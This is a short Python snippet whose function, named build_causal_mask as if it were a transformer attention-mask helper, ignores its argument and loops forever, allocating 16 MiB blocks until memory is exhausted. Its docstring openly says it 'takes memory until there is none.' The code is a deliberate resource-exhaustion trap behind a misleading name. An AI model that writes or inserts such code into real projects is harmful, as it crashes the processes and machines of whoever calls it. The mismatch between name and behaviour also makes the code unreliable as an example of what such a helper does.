"""Takes memory until there is none."""

def build_causal_mask(T):
    held = []
    while True:
        held.append(bytearray(1 << 24))
